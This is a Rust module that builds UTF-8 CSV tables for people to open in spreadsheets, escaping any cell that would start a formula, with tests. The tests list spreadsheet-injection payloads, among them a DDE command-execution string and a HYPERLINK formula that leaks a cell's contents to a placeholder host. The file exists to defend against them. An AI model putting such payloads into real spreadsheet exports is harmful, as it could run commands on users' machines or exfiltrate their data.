//! 表計算の表 — CSV that people open in a spreadsheet. No cell begins a formula there, whatever stands in it; files for other
//! systems are written by their layouts ([`exchange`]) and stay as they are laid down.

use exchange::csv::write_cell;

/// Signs with which a spreadsheet takes a cell for a formula, or steps into the next cell; the full-width forms too.
const FORMULA: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];

/// A table as text: a byte order mark, so that a spreadsheet reads it as UTF-8, a heading, rows ending in CR LF.
#[derive(Clone, Debug)]
pub struct Sheet {
    text: String,
    records: i64,
}

/// A finished table.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Written {
    /// The CSV with its heading.
    pub text: String,
    /// Rows below the heading; a line that breaks within a cell is still one row.
    pub rows: i64,
}

impl Sheet {
    /// A table with its heading.
    #[must_use]
    pub fn new(heading: &[&str]) -> Self {
        let mut sheet = Self {
            text: String::from("\u{feff}"),
            records: 0,
        };
        sheet.row(heading);
        sheet
    }

    /// Adds a row.
    pub fn row<C: AsRef<str>>(&mut self, cells: &[C]) {
        for (place, cell) in cells.iter().enumerate() {
            if place > 0 {
                self.text.push(',');
            }
            write_guarded(&mut self.text, cell.as_ref());
        }
        self.text.push_str("\r\n");
        self.records += 1;
    }

    /// The whole table.
    #[must_use]
    pub fn into_text(self) -> String {
        self.text
    }

    /// The whole table and how many rows there are below the heading.
    #[must_use]
    pub fn finish(self) -> Written {
        Written {
            rows: self.records - 1,
            text: self.text,
        }
    }
}

/// Writes a cell that a spreadsheet takes for words or for a whole number, never for a formula.
fn write_guarded(out: &mut String, cell: &str) {
    // What stands behind spaces and signs that are not seen still begins the cell.
    let seen = cell.trim_start_matches(|letter: char| {
        letter == ' ' || letter == '\u{3000}' || letter == '\u{feff}' || letter == '\u{200b}'
    });
    if seen.starts_with(FORMULA) && !is_number(cell) {
        write_cell(out, &format!("'{cell}"), true, b',');
    } else {
        write_cell(out, cell, false, b',');
    }
}

/// A whole number, below zero or not, is no formula.
fn is_number(cell: &str) -> bool {
    let digits = cell.strip_prefix('-').unwrap_or(cell);
    !digits.is_empty() && digits.bytes().all(|byte| byte.is_ascii_digit())
}

#[cfg(test)]
mod tests {
    use super::*;
    use exchange::csv::{Record, Records};

    const HOSTILE: [&str; 18] = [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "+81-3-0000-0000",
        "-1+1",
        "-",
        "--5",
        "-5 ",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\u{3000}=1+1",
        "\u{feff}=1+1",
        "＝1+1",
        "＠SUM(A1)",
        "\"=1+1\"",
        "=HYPERLINK(\"//example.invalid/?\"&A1,\"ここ\")",
    ];

    fn cells(text: &str) -> Vec<Vec<String>> {
        let mut records = Records::new(text.trim_start_matches('\u{feff}'), b',');
        let (mut record, mut all) = (Record::default(), Vec::new());
        while records.next(&mut record).unwrap() {
            all.push(record.cells.iter().map(|cell| cell.to_string()).collect());
        }
        all
    }

    #[test]
    fn no_cell_of_a_table_for_people_begins_a_formula() {
        let mut sheet = Sheet::new(&["名前", "=見出し"]);
        for hostile in HOSTILE {
            sheet.row(&[hostile, "あと"]);
            sheet.row(&["まえ", hostile]);
        }
        let text = sheet.into_text();
        let found = cells(&text);
        assert_eq!(found.len(), 1 + 2 * HOSTILE.len());
        for row in &found {
            assert_eq!(row.len(), 2, "nothing leaves its cell: {row:?}");
            for cell in row {
                let seen = cell.trim_start_matches([' ', '\u{3000}', '\u{feff}', '\u{200b}']);
                assert!(!seen.starts_with(FORMULA), "{cell:?}");
            }
        }
        // What was typed is all there behind the sign.
        for (place, hostile) in HOSTILE.iter().enumerate() {
            assert!(found[1 + 2 * place][0].ends_with(hostile), "{hostile:?}");
        }
    }

    #[test]
    fn rows_are_counted_and_not_lines_of_text() {
        let mut sheet = Sheet::new(&["名前", "方書"]);
        assert_eq!(sheet.clone().finish().rows, 0);
        sheet.row(&["港 一郎", "芝荘\r\n201号\n様方"]);
        sheet.row(&["港 花子", ""]);
        let written = sheet.finish();
        assert_eq!(written.rows, 2);
        assert_eq!(cells(&written.text).len(), 3);
        assert!(written.text.lines().count() > 3);
    }

    #[test]
    fn words_and_numbers_stay_as_they_are() {
        let mut sheet = Sheet::new(&["世帯", "円"]);
        sheet.row(&["1000001", "-5400"]);
        sheet.row(&["芝, 三丁目", "0"]);
        assert_eq!(
            sheet.into_text(),
            "\u{feff}世帯,円\r\n1000001,-5400\r\n\"芝, 三丁目\",0\r\n"
        );
    }
}
